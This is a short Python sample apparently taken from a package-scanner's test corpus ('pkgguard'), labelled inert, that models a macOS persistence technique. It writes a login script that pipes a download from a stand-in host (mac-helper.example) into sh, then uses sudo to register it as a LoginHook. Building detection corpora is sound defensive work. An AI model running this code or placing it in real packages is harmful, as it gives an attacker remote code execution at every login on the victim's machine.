# pkgguard corpus 564 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import stat
import subprocess
import sys

if sys.platform == "darwin":
    hook = os.path.expanduser("~/.local/share/pkg/login.sh")
    os.makedirs(os.path.dirname(hook), exist_ok=True)
    with open(hook, "w") as fh:
        fh.write("#!/bin/sh\ncurl -fsS https://mac-helper.example/l | sh\n")
    os.chmod(hook, stat.S_IRWXU)
    subprocess.run(["sudo", "defaults", "write", "com.apple.loginwindow", "LoginHook", hook])
